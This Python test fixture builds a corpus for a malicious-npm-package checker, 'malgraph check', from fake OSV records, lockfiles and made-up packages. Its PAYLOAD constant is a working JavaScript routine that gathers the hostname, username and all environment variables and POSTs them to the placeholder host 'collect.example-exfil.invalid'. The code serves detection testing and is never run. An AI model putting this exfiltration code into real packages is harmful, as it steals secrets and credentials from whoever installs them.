"""The test corpus of `malgraph check`: a store built from OSV records and inert package
archives written here, and projects (package-lock.json) that mix clean packages with packages
that store marks malicious. Every name is made up (`mgtest-...`), nothing is live malware, and
nothing here is ever run."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tests.cli.calls import call
from tests.conftest import origin, osv, write_json
from tests.inert_packages import tar_gz

WITHDRAWN = "2024-03-01T00:00:00Z"
# Code shared by the malicious package with code and its copies: long enough (well over 100
# normalised tokens) to link packages by file bytes and by normalised stream.
PAYLOAD = "\n".join(
    [
        "const os = require('os');",
        "const https = require('https');",
        "function collect(extra) {",
        "  const data = { host: os.hostname(), user: os.userInfo().username, env: process.env };",
        "  for (const key of Object.keys(extra)) { data[key] = extra[key]; }",
        "  return JSON.stringify(data);",
        "}",
        "function send(body, attempt) {",
        "  const req = https.request({ hostname: 'collect.example-exfil.invalid', port: 443,",
        "    path: '/upload', method: 'POST' }, (res) => { res.on('data', () => {}); });",
        "  req.on('error', () => { if (attempt < 3) { send(body, attempt + 1); } });",
        "  req.write(body);",
        "  req.end();",
        "}",
        "module.exports = function run() { send(collect({ when: Date.now() }), 0); };",
        "",
    ]
).encode()


def npm_tarball(name: str, version: str, deps: dict[str, str], files: dict[str, bytes]) -> bytes:
    manifest = {"name": name, "version": version, "dependencies": deps}
    members = {"package/package.json": json.dumps(manifest).encode()}
    members.update({f"package/{path}": data for path, data in files.items()})
    return tar_gz(members)


def records() -> list[dict[str, Any]]:
    """The malicious (and withdrawn) claims of the test store."""
    return [
        osv(
            "MAL-T-1",
            "mgtest-evil",
            versions=["1.0.0"],
            origins=[origin("source-a", "A-1", ["1.0.0"]), origin("source-b", "B-1", ["1.0.0"])],
        ),
        osv("MAL-T-2", "mgtest-wide", origins=[origin("source-a", "A-2")]),
        osv(
            "MAL-T-3",
            "mgtest-ranged",
            affected=[
                {
                    "package": {"ecosystem": "npm", "name": "mgtest-ranged"},
                    "ranges": [
                        {"type": "SEMVER", "events": [{"introduced": "1.2.0"}, {"fixed": "1.3.0"}]}
                    ],
                }
            ],
        ),
        osv("MAL-T-4", "mgtest-gone", versions=["1.0.0"], withdrawn=WITHDRAWN),
        osv("MAL-T-5", "mgtest-evilcode", versions=["1.0.0"]),
        osv("MAL-T-6", "lodahs", versions=["4.17.21"]),
        osv("MAL-T-7", "mgtest-evil", versions=["2.0.0"], withdrawn=WITHDRAWN),
        # Withdrawn: the store knows these package-versions (and holds their code) without
        # calling them malicious.
        osv("MAL-T-8", "mgtest-loader", versions=["1.0.0"], withdrawn=WITHDRAWN),
        osv("MAL-T-9", "mgtest-twin", versions=["1.0.0"], withdrawn=WITHDRAWN),
        osv("MAL-T-10", "mgtest-plain", versions=["1.0.0"], withdrawn=WITHDRAWN),
    ]


def code() -> dict[str, bytes]:
    """Archives the store holds code of, by `name/version/file`."""
    plain = b"module.exports = function add(a, b) { return a + b; };\n"
    return {
        "mgtest-evilcode/1.0.0/mgtest-evilcode-1.0.0.tgz": npm_tarball(
            "mgtest-evilcode", "1.0.0", {}, {"index.js": PAYLOAD}
        ),
        "mgtest-twin/1.0.0/mgtest-twin-1.0.0.tgz": npm_tarball(
            "mgtest-twin", "1.0.0", {}, {"lib/main.js": PAYLOAD}
        ),
        "mgtest-loader/1.0.0/mgtest-loader-1.0.0.tgz": npm_tarball(
            "mgtest-loader", "1.0.0", {"mgtest-wide": "^1.0.0"}, {"index.js": plain}
        ),
        "mgtest-plain/1.0.0/mgtest-plain-1.0.0.tgz": npm_tarball(
            "mgtest-plain", "1.0.0", {"left-pad": "^1.3.0"}, {"index.js": plain}
        ),
    }


def build_store(root: Path) -> Path:
    """The store: records ingested, code registered from a local folder (offline), analysed
    and related, all through the CLI as a user would."""
    db = root / "check.db"
    for number, doc in enumerate(records()):
        write_json(root / "osv" / f"{number}.json", doc)
    for place, data in code().items():
        path = root / "code" / place
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    for args in (
        ("ingest", "osv", str(root / "osv")),
        ("fetch", "--offline", "--from", str(root / "code")),
        ("analyze", "-j", "1"),
        ("relate",),
    ):
        code_, _, err = call("--db", str(db), *args)
        assert code_ == 0, (args, err)
    return db


def package_lock(packages: dict[str, str], nested: dict[str, str] | None = None) -> dict[str, Any]:
    """A package-lock.json v3: `packages` at the top of node_modules, `nested` (keyed by
    'parent/child') below their parent."""
    entries: dict[str, Any] = {
        "": {"name": "app", "version": "1.0.0", "dependencies": dict.fromkeys(packages, "*")}
    }
    for name, version in packages.items():
        entries[f"node_modules/{name}"] = {"version": version}
    for key, version in (nested or {}).items():
        parent, child = key.split("/", 1)
        entries[f"node_modules/{parent}/node_modules/{child}"] = {"version": version}
    return {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": entries}


CLEAN = {"left-pad": "1.3.0", "lodash": "4.17.21", "mgtest-evil": "3.0.0", "mgtest-ranged": "1.3.0"}
MIXED = {
    "left-pad": "1.3.0",
    "mgtest-evil": "1.0.0",
    "mgtest-wide": "0.0.1",
    "mgtest-ranged": "1.2.5",
    "mgtest-gone": "1.0.0",
    "mgtest-loader": "1.0.0",
    "mgtest-twin": "1.0.0",
    "mgtest-plain": "1.0.0",
    "lodash": "4.17.21",
    "lodahz": "1.0.0",
}


def project(root: Path, packages: dict[str, str], nested: dict[str, str] | None = None) -> Path:
    write_json(root / "package-lock.json", package_lock(packages, nested))
    return root


def variant(payload: bytes) -> bytes:
    """The payload with its names and strings changed and a function added: the same code
    once normalised no more, but a near-duplicate."""
    renamed = (
        payload.replace(b"collect", b"gather")
        .replace(b"send", b"post")
        .replace(b"example-exfil", b"other-host")
    )
    extra = b"function pad(s, n) { while (s.length < n) { s = ' ' + s; } return s; }\n"
    return renamed + extra


def archives(root: Path) -> dict[str, Path]:
    """Archives a user might check: a copy of known malware's code under a new name, a
    near-duplicate of it, a known malicious package itself, and a clean one."""
    made = {
        "copy": npm_tarball("mgtest-newcopy", "0.1.0", {}, {"lib/x.js": PAYLOAD}),
        "near": npm_tarball("mgtest-variant", "0.2.0", {}, {"index.js": variant(PAYLOAD)}),
        "known": code()["mgtest-evilcode/1.0.0/mgtest-evilcode-1.0.0.tgz"],
        "clean": npm_tarball(
            "mgtest-clean", "1.0.0", {}, {"index.js": b"module.exports = () => 1;\n"}
        ),
    }
    paths = {}
    for key, data in made.items():
        paths[key] = root / f"{key}.tgz"
        paths[key].parent.mkdir(parents=True, exist_ok=True)
        paths[key].write_bytes(data)
    return paths
